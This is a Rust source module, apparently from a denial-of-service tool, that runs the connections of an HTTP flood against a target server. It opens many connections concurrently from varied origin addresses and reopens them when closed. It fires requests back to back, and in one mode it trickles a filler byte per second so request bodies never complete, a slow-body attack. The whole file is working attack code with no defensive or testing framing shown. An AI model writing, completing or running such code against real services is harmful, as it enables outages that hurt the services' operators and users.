//! The connections of a flood. Each sends its next request as soon as it has the answer to the last one, and is opened
//! again when the server closes it.

use std::collections::BTreeMap;
use std::io;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use tokio::sync::Semaphore;
use tokio::time::{sleep, timeout};

use crate::attack::{Attack, FILLER, Kind};
use crate::connection::Connection;

/// Opens connections and sends requests.
pub(crate) struct Flooder {
    attack: Attack,
    counters: Arc<Counters>,
    /// Limits how many connections are being opened: more would overflow the server's queue and wait for
    /// retransmissions.
    opening: Semaphore,
}

impl Flooder {
    pub(crate) fn new(attack: Attack, counters: Arc<Counters>) -> Self {
        Self { attack, counters, opening: Semaphore::new(OPENING) }
    }

    /// Keeps one connection open until the task is dropped.
    pub(crate) async fn keep_open(self: Arc<Self>, number: usize) {
        loop {
            let Ok(connection) = self.open(number).await else {
                sleep(PAUSE).await;
                continue;
            };
            if !self.use_up(&connection, number).await {
                drop(connection);
                sleep(PAUSE).await;
            }
        }
    }

    /// Sends requests until the connection ends. Returns whether any was answered.
    async fn use_up(&self, connection: &Connection, number: usize) -> bool {
        let _open = self.counters.count_open();
        let mut is_answered = false;
        while let Some(stays_open) = self.exchange(connection, number).await {
            is_answered = true;
            if !stays_open {
                break;
            }
        }
        is_answered
    }

    async fn open(&self, number: usize) -> io::Result<Connection> {
        let _permit = self.opening.acquire().await.map_err(io::Error::other)?;
        let from = self.attack.origins.of_connection(number);
        timeout(OPEN_LIMIT, Connection::open(from, self.attack.server)).await?
    }

    /// Sends a request and counts its answer. Returns whether the connection stays open; `None` if there is no answer.
    async fn exchange(&self, connection: &Connection, number: usize) -> Option<bool> {
        let answer = timeout(ANSWER_LIMIT, async {
            connection.send(&self.attack.request(number)).await?;
            if self.attack.kind == Kind::Bodies {
                continue_body(connection).await?;
            }
            connection.answer().await
        });
        let Ok(Ok(answer)) = answer.await else {
            self.counters.add(None);
            return None;
        };
        self.counters.add(Some(answer.status));
        // After an answer to a part of a body, the rest of the body would be read as a request.
        Some(!answer.closes && self.attack.kind != Kind::Bodies)
    }
}

/// Sends a byte each second until the server answers. It never sends as many as the head has announced.
async fn continue_body(connection: &Connection) -> io::Result<()> {
    while let Err(_elapsed) = timeout(BYTE_PERIOD, connection.readable()).await {
        connection.send(&[FILLER]).await?;
    }
    Ok(())
}

/// What the connections of a flood have seen.
#[derive(Default)]
pub(crate) struct Counters {
    open: AtomicUsize,
    results: Mutex<BTreeMap<Option<u16>, u32>>,
}

impl Counters {
    /// The number of open connections.
    pub(crate) fn open(&self) -> usize {
        self.open.load(Ordering::Relaxed)
    }

    /// The number of answers by status, and of requests without an answer.
    pub(crate) fn results(&self) -> BTreeMap<Option<u16>, u32> {
        self.results.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }

    fn count_open(&self) -> Open<'_> {
        self.open.fetch_add(1, Ordering::Relaxed);
        Open(self)
    }

    fn add(&self, status: Option<u16>) {
        *self.results.lock().unwrap_or_else(PoisonError::into_inner).entry(status).or_default() += 1;
    }
}

/// A connection in the count of open ones.
struct Open<'a>(&'a Counters);

impl Drop for Open<'_> {
    fn drop(&mut self) {
        self.0.open.fetch_sub(1, Ordering::Relaxed);
    }
}

const OPENING: usize = 256;
const OPEN_LIMIT: Duration = Duration::from_secs(10);
const ANSWER_LIMIT: Duration = Duration::from_secs(30);
const BYTE_PERIOD: Duration = Duration::from_secs(1);
/// Before a connection is opened again that the server closed without an answer.
const PAUSE: Duration = Duration::from_millis(50);
